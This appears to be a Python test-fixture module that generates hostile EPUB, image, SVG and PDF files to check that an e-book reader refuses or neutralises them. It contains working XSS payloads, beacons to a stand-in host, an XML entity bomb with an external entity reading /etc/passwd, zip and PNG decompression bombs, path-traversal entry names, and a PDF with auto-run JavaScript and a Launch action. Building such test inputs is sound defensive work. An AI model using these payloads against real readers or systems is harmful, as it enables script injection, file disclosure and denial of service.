"""Files that mean harm, made on the spot. Each is refused with a sentence or comes out harmless, in bounded time."""

import io
import struct
import zipfile
import zlib

from tests.library.books import CONTAINER, SENTENCE, make_epub, make_pdf, pack, page

BEACON = "http://beacon.example/x.png"

BAD_BODY = f"""
<p onclick="alert(1)" style="background:url({BEACON})">Đọc {SENTENCE}</p>
<script>alert(1)</script><script src="{BEACON}"/>
<img src="{BEACON}" alt="ngoài" onerror="alert(1)"/><img src="x.png" onerror="alert(2)" alt="mất"/>
<img src="data:image/svg+xml;base64,PHN2Zz4=" alt="dữ liệu"/>
<a href="javascript:alert(1)">một</a><a href=" java&#x0A;script:alert(2)">hai</a><a href="data:text/html,x">ba</a>
<a href="file:///etc/passwd">bốn</a><a href="../../../etc/passwd">năm</a><a href="//beacon.example/y">sáu</a>
<a href="vbscript:x" id="p1">bảy</a><a href="https://example.vn/?a=1&amp;b=2" target="_top" ping="{BEACON}">tám</a>
<iframe src="{BEACON}">chín</iframe><object data="{BEACON}" type="text/html"><p>thay thế</p></object>
<embed src="{BEACON}"/><form action="{BEACON}"><input name="q" autofocus="" onfocus="alert(3)"/><button>gửi</button></form>
<video src="{BEACON}" poster="{BEACON}"><p>không có phim</p></video><audio src="{BEACON}" autoplay=""/>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="alert(4)"><script>alert(5)</script>
<a xlink:href="javascript:alert(6)"><rect width="10" height="10" fill="url({BEACON}#a)"/></a>
<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="alert(7)"><p>trong</p></body></foreignObject>
<image xlink:href="{BEACON}"/><animate attributeName="href" to="javascript:alert(8)"/><style>@import url({BEACON})</style>
<use xlink:href="{BEACON}#b"/></svg>
<math xmlns="http://www.w3.org/1998/Math/MathML"><mi href="javascript:alert(9)" xlink:href="javascript:alert(10)"
 xmlns:xlink="http://www.w3.org/1999/xlink">x</mi><annotation-xml encoding="text/html"><img src="{BEACON}"/></annotation-xml></math>
<base href="{BEACON}"/><meta http-equiv="refresh" content="0;url={BEACON}"/><link rel="stylesheet" href="{BEACON}"/>
<p srcset="{BEACON}" background="{BEACON}" formaction="{BEACON}" id="sach" class="verse evil">Hết.</p>
"""
BAD_HEAD = (
    f'<meta http-equiv="refresh" content="0;url={BEACON}"/><base href="{BEACON}"/><style>@import url({BEACON});'
    f"@font-face{{font-family:x;src:url({BEACON})}} p{{background:url({BEACON})}}</style>"
    f'<link rel="stylesheet" href="{BEACON}"/><script>alert(0)</script>'
)


def active_epub() -> bytes:
    """Everything that a page could do to its reader, on one page."""
    return make_epub([page(BAD_BODY, head=BAD_HEAD)])


def laughing_epub() -> bytes:
    """Ten to the ninth laughs, were entities resolved; and one that reads a file of the machine."""
    levels = '<!ENTITY l0 "ha">' + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    doctype = f'<!DOCTYPE html [{levels}<!ENTITY f SYSTEM "file:///etc/passwd">]>'
    laughing = page(f"<p>&l9; &f; &nbsp;{SENTENCE}</p>").replace("<!DOCTYPE html>", doctype)
    return make_epub([laughing])


def laughing_package() -> bytes:
    """The same in the package file."""
    book = zipfile.ZipFile(io.BytesIO(make_epub()))
    files = {name: book.read(name) for name in book.namelist()}
    levels = '<!ENTITY l0 "ha">' + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    opf = files["OEBPS/sach.opf"].decode()
    files["OEBPS/sach.opf"] = (
        opf.replace("<package", f"<!DOCTYPE package [{levels}]><package")
        .replace("Sổ tay đất đai", "Sổ tay &l9;")
        .encode()
    )
    return pack(files)


def bomb(size: int = 300 << 20) -> bytes:
    """A zip of a few hundred kB that holds `size` bytes of nothing."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as book:
        book.writestr("mimetype", "application/epub+zip")
        book.writestr("META-INF/container.xml", CONTAINER)
        with book.open("OEBPS/c1.xhtml", "w") as entry:
            for _ in range(size >> 20):
                entry.write(bytes(1 << 20))
    return made.getvalue()


def lying_bomb() -> bytes:
    """The directory says 10 bytes, the entry unpacks to 20 MB."""
    big = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = big.compress(b"<p>a</p>" * (20 << 17)) + big.flush()
    files = {"mimetype": "application/epub+zip", "META-INF/container.xml": CONTAINER}
    plain = bytearray(pack({**files, "OEBPS/sach.opf": b"x" * 10}, compressed=False))
    whole = zipfile.ZipFile(io.BytesIO(bytes(plain)))
    info = whole.getinfo("OEBPS/sach.opf")
    start = info.header_offset + 30 + len(info.filename)
    shift = len(data) - 10
    for at in (info.header_offset, bytes(plain).index(b"PK\x01\x02", start)):
        central = plain[at : at + 4] == b"PK\x01\x02"
        struct.pack_into("<H", plain, at + (10 if central else 8), zipfile.ZIP_DEFLATED)
        struct.pack_into("<I", plain, at + (20 if central else 18), len(data))
    plain[start : start + 10] = data
    return bytes(_moved(plain, shift))


def _moved(plain: bytearray, shift: int) -> bytearray:
    """The central directory lies further on by `shift`."""
    end = plain.rindex(b"PK\x05\x06")
    offset = struct.unpack_from("<I", plain, end + 16)[0]
    struct.pack_into("<I", plain, end + 16, offset + shift)
    return plain


def named(name: str, *, mode: int = 0o644, twice: bool = False) -> bytes:
    """An EPUB with one more entry of that name."""
    made = io.BytesIO(make_epub())
    with zipfile.ZipFile(made, "a") as book:
        info = zipfile.ZipInfo(name, (2021, 5, 19, 0, 0, 0))
        info.external_attr = mode << 16
        book.writestr(info, "/etc/passwd")
        if twice:
            import warnings

            with warnings.catch_warnings():
                warnings.simplefilter("ignore")
                book.writestr(info, "hai")
    return made.getvalue()


def locked_epub(algorithm: str = "http://www.w3.org/2001/04/xmlenc#aes256-cbc") -> bytes:
    encryption = (
        '<encryption xmlns="urn:oasis:names:tc:opendocument:xmlns:container" xmlns:e="http://www.w3.org/2001/04/xmlenc#">'
        f'<e:EncryptedData><e:EncryptionMethod Algorithm="{algorithm}"/><e:CipherData><e:CipherReference URI="OEBPS/c1.xhtml"/>'
        "</e:CipherData></e:EncryptedData></encryption>"
    )  # fmt: skip
    book = zipfile.ZipFile(io.BytesIO(make_epub()))
    return pack(
        {**{name: book.read(name) for name in book.namelist()}, "META-INF/encryption.xml": encryption}
    )


def with_password() -> bytes:
    """The flag that every entry is encrypted."""
    data = bytearray(make_epub())
    at = data.index(b"PK\x01\x02")
    while at != -1:
        data[at + 8] |= 1
        at = data.find(b"PK\x01\x02", at + 4)
    return bytes(data)


def many_sections(count: int = 10_000) -> bytes:
    return make_epub([page("<p>a</p>")] * count)


def endless_page(words: int = 400_000) -> bytes:
    """A whole book in one paragraph, 60 elements deep."""
    return make_epub([page("<div>" * 60 + f"<p>{'dài ' * words}</p>" + "</div>" * 60)])


def deep_page(depth: int = 100_000) -> bytes:
    return make_epub([page("<b>" * depth + "sâu" + "</b>" * depth)])


def huge_picture(width: int = 60_000, height: int = 60_000) -> bytes:
    """A PNG of 3.6 gigapixels in a few bytes."""
    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    data = zlib.compress(bytes(1000))

    def chunk(name: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))

    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def epub_with_picture(data: bytes, name: str = "hinh.png") -> bytes:
    return make_epub(
        [page(f'<p>{SENTENCE}</p><img src="{name}" alt="một hình"/>')], files={f"OEBPS/{name}": data}
    )


def svg_bomb() -> bytes:
    """Copies of copies of copies: 10 to the 8th circles."""
    levels = '<g id="a0"><circle r="1"/></g>' + "".join(
        f'<g id="a{n}">{f"""<use href="#a{n - 1}"/>""" * 10}</g>' for n in range(1, 9)
    )
    return f'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><defs>{levels}</defs><rect width="9" height="9"/><use href="#a8"/></svg>'.encode()


def broken_bytes() -> bytes:
    """A page that says UTF-8 and is neither UTF-8 nor well-formed."""
    bad = page(f"<p>{SENTENCE}").encode()[:-14] + b"\xff\xfe\x80 caf\xe9 <p>h\xf4m nay &bogus; < & </b></p>"
    book = zipfile.ZipFile(io.BytesIO(make_epub()))
    return pack({**{name: book.read(name) for name in book.namelist()}, "OEBPS/c1.xhtml": bad})


# --- PDF ---------------------------------------------------------------------------------------------


def pdf_of(objects: list[bytes], *, trailer: bytes = b"") -> bytes:
    """A PDF of these objects, the first the catalogue."""
    made, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, start=1):
        places.append(len(made))
        made += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(made)
    made += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    made += b"".join(b"%010d 00000 n \n" % place for place in places)
    made += b"trailer\n<</Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF" % (
        len(objects) + 1,
        trailer,
        xref,
    )
    return bytes(made)


def script_pdf() -> bytes:
    return pdf_of(
        [
            b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\('http://beacon.example'\\))>>>>",
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 400]/AA<</O<</S/Launch/F(calc.exe)>>>>>>",
        ]
    )


def locked_pdf() -> bytes:
    """Encrypted by a handler that no one has."""
    return pdf_of(
        [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>", b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
         b"<</Filter/EBX.HANDLER/V 4/Length 128>>"],
        trailer=b"/Encrypt 4 0 R /ID[(a)(a)]",
    )  # fmt: skip


def many_objects(count: int = 300_000) -> bytes:
    """A page tree of one page and very many objects that nobody needs."""
    head = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 400]>>",
    ]
    return pdf_of(head + [b"<</A %d 0 R>>" % (n + 4) for n in range(count)])


def many_pages(count: int = 20_000) -> bytes:
    head = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[%s]/Count %d>>" % (b" 3 0 R" * count, count),
    ]
    return pdf_of([*head, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 400]>>"])


def giant_page() -> bytes:
    """A sheet two million points long."""
    return pdf_of(
        [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
         b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 10 2000000]>>"]
    )  # fmt: skip


def looping_tree() -> bytes:
    """A page tree that is its own child."""
    return pdf_of([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 4>>"])


def cut_pdf() -> bytes:
    return make_pdf(1)[:2_000]
